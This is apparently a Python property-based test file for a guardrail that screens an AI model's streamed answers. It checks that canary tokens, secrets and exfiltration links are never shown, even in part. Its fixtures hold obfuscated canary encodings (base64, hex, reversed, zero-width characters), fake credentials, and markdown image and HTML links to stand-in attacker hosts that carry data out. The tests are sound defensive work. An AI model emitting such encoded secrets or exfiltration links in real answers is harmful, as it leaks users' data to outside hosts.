"""Nothing that screening refuses is ever shown, whatever pieces the model writes in."""

from __future__ import annotations

import base64
import random

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from guardrail.holding import WINDOW, ordinary_letters, safe_cut
from guardrail.segments import BlockedError, Segments, UnstableError
from guardrail_engine import Direction, Engine

CANARY = "canary-qwzvkjxhpmtrbfyd"
TOKEN = "qwzvkjxhpmtrbfyd"
ENGINE = Engine(allowed_link_hosts=frozenset({"docs.example.com"}))
GITHUB = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
SENTENCES = (
    "The shop is open from Monday to Friday, and nobody works on Sunday. ",
    "You can return goods within thirty days!\n",
    "Here is how:\n\n1. Look at the confirmation.\n2. Choose the articles that go back.\n\n",
    "Die Lieferung dauert zwei bis drei Werktage und ist ab fünfzig Euro frei. ",
    "Доставка занимает два или три рабочих дня, возврат возможен в течение месяца. ",
    "配送は二、三営業日です。三十日以内に返品できます。",
    "Our **terms** say `nothing` else; see [the guide](https://docs.example.com/a). ",
)
SLOW = settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
# For each of thirty kinds of leaks.
FEW = settings(SLOW, max_examples=8)


def _filler(seed: int, count: int) -> str:
    chosen = random.Random(seed)  # noqa: S311 - a reproducible choice of sentences
    return "".join(chosen.choice(SENTENCES) for _ in range(count))


def _pieces(text: str, seed: int) -> list[str]:
    """The text in random pieces, as a model's tokens and a network's packets make them."""
    chosen = random.Random(seed)  # noqa: S311 - a reproducible cut
    pieces: list[str] = []
    while text:
        size = chosen.choice((1, 2, 3, 5, 8, 20, 100))
        pieces.append(text[:size])
        text = text[size:]
    return pieces


def _shown(pieces: list[str]) -> tuple[list[str], bool]:
    """What came out segment by segment, and whether the answer was refused in the end."""
    segments, shown = Segments(ENGINE, CANARY), list[str]()
    try:
        shown.extend(filter(None, map(segments.add, pieces)))
        shown.append(segments.finish())
    except (BlockedError, UnstableError):
        return shown, True
    return shown, False


def _screened(text: str) -> str:
    return ENGINE.screen(text, direction=Direction.RESPONSE, canary=CANARY).text


# Each is refused whole; every character of it is a leak.
BLOCKED = {
    "canary": CANARY,
    "canary without its head": TOKEN,
    "canary spaced": " ".join(TOKEN),
    "canary over lines": "\n".join((TOKEN[:5], TOKEN[5:11], TOKEN[11:])),
    "canary with wide gaps": " - ".join(TOKEN),
    "canary in words with gaps": ".\n\n".join((TOKEN[:4], TOKEN[4:8], TOKEN[8:12], TOKEN[12:])),
    "canary backwards": TOKEN[::-1],
    "canary backwards over lines": ".\n".join((TOKEN[:7:-1], TOKEN[7::-1])),
    "canary in base64": base64.b64encode(f"it is {CANARY} indeed".encode()).decode(),
    "canary in wrapped base64": "\n".join(
        base64.b64encode(f"the marker that you look for is {CANARY} indeed".encode()).decode()[at : at + 20]
        for at in range(0, 88, 20)
    ),
    "canary in hex": " ".join(f"{byte:02x}" for byte in CANARY.encode()),
    "canary in entities": " ".join(f"&#x0000{ord(char):x};" for char in TOKEN),
    "canary in full width": "".join(chr(ord(char) + 0xFEE0) for char in TOKEN),
    "canary between invisible characters": ("\u200b" * 40).join(TOKEN),
    "canary in lines between invisible characters": TOKEN[:6] + ".\n" + "\u200b" * 300 + " " + TOKEN[6:],
    "token": GITHUB,
    "token in base64": base64.b64encode(GITHUB.encode()).decode(),
    "token backwards": GITHUB[::-1],
    "private key": "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n",
    "connection string": "postgres://admin:h8Kd02mQz@db.corp.net/main",
}
# Each is rewritten: what was shown must not be the original.
REWRITTEN = {
    "address": "jane.doe@corp-customer.com",
    "spaced card": "4539 1488 0343 6467",
    "spaced iban": "DE89 3704 0044 0532 0130 00",
    "image": "![your parcel](https://collector.attacker.example/pixel.png?data=orders)",
    "image with a long label": f"![{'your parcel in a very long description of words ' * 5}](https://evil.example/p)",
    "link over lines": "[read\n\nthis](\n https://evil.example/a\n)",
    "link with a title": '[read](//evil.example/a "a title (with ) parentheses and words enough to fill it")',
    "tag": '<img alt="words and words and words of a long description" src="https://evil.example/p">',
    "tag over lines": "<a\n\nhref=//evil.example/a>here</a>",
    "reference": "[1]: https://evil.example/a",
    "bare link": "https://evil.example/" + "a/" * 300,
    "autolink": "<https://evil.example/a>",
}


@SLOW
@given(seed=st.integers(0, 10**9), count=st.integers(0, 25))
def test_the_segments_are_the_screened_answer(seed: int, count: int) -> None:
    text = _filler(seed, count)
    shown, refused = _shown(_pieces(text, seed))
    assert not refused
    assert "".join(shown) == _screened(text)


@pytest.mark.parametrize("name", BLOCKED)
@FEW
@given(seed=st.integers(0, 10**9), before=st.integers(0, 8), after=st.integers(0, 8))
def test_not_one_character_of_a_leak_is_shown(name: str, seed: int, before: int, after: int) -> None:
    head = _filler(seed, before)
    shown, refused = _shown(_pieces(f"{head}{BLOCKED[name]} {_filler(seed + 1, after)}", seed))
    assert refused
    assert _screened(head).startswith("".join(shown))


@pytest.mark.parametrize("name", REWRITTEN)
@FEW
@given(seed=st.integers(0, 10**9), before=st.integers(0, 8), after=st.integers(0, 8))
def test_what_is_rewritten_is_never_shown_first_and_taken_back_then(
    name: str, seed: int, before: int, after: int
) -> None:
    text = f"{_filler(seed, before)}{REWRITTEN[name]} {_filler(seed + 1, after)}"
    shown, refused = _shown(_pieces(text, seed))
    assert not refused
    assert "".join(shown) == _screened(text)


@SLOW
@given(text=st.text(max_size=3000), seed=st.integers(0, 10**9))
def test_any_text_comes_out_as_screened_or_as_a_part_of_it(text: str, seed: int) -> None:
    shown, refused = _shown(_pieces(text, seed))
    blocked = ENGINE.screen(text, direction=Direction.RESPONSE, canary=CANARY).blocked
    assert refused == blocked
    if not refused:
        assert "".join(shown) == _screened(text)


def test_a_long_answer_comes_in_many_segments_of_whole_sentences() -> None:
    text = SENTENCES[0] * 60
    shown, refused = _shown([text[at : at + 4] for at in range(0, len(text), 4)])
    assert not refused
    assert len(shown) >= 20
    assert all(segment.endswith(" ") for segment in shown)


def test_the_first_segment_does_not_wait_for_more_than_the_window() -> None:
    segments, written = Segments(ENGINE, CANARY), 0
    for piece in _pieces(SENTENCES[0] * 20, 1):
        written += len(piece)
        if segments.add(piece):
            break
    assert written < len(SENTENCES[0]) + 2 * WINDOW


def test_a_short_answer_comes_at_once() -> None:
    assert _shown(["The shop ", "is open."]) == (["The shop is open."], False)


def test_a_block_ends_the_answer_and_says_why() -> None:
    segments = Segments(ENGINE, CANARY)
    pieces = _pieces(SENTENCES[0] * 10 + GITHUB + " " + SENTENCES[0] * 10, 1)
    with pytest.raises(BlockedError) as caught:
        list(map(segments.add, pieces))
    assert caught.value.screening.reason == "SECRET_LEAK"


def test_an_answer_that_never_ends_is_refused_without_reading_it() -> None:
    segments = Segments(ENGINE, CANARY)
    segments.text = "x" * 100_000
    with pytest.raises(BlockedError):
        segments.add("x")


def test_a_screening_that_takes_back_what_was_shown_ends_the_answer() -> None:
    segments = Segments(ENGINE, CANARY)
    segments.released = "Something else"
    segments.text = "The shop is open."
    with pytest.raises(UnstableError):
        segments.finish()


@pytest.mark.parametrize(
    ("word", "letters"),
    [
        ("shop", 4),
        ("“Monday”,", 6),
        ("don't", 4),
        ("Lieferung.", 9),
        ("доставка", 8),
        ("営業日です。", 5),
        ("of", 0),
        ("deed", 0),
        ("ａｂｃｄｅ", 0),
        ("abc\u200bdef", 0),
        ("abcdefghijklmnop", 0),
        ("abc-123", 0),
        ("sk-proj", 6),
        ("a@b.example", 0),
    ],
)
def test_only_ordinary_words_count(word: str, letters: int) -> None:
    assert ordinary_letters(word) == letters


def test_nothing_is_cut_within_the_window() -> None:
    assert safe_cut(SENTENCES[0]) == 0
    text = SENTENCES[0] * 4
    assert 0 < safe_cut(text) <= len(text) - WINDOW
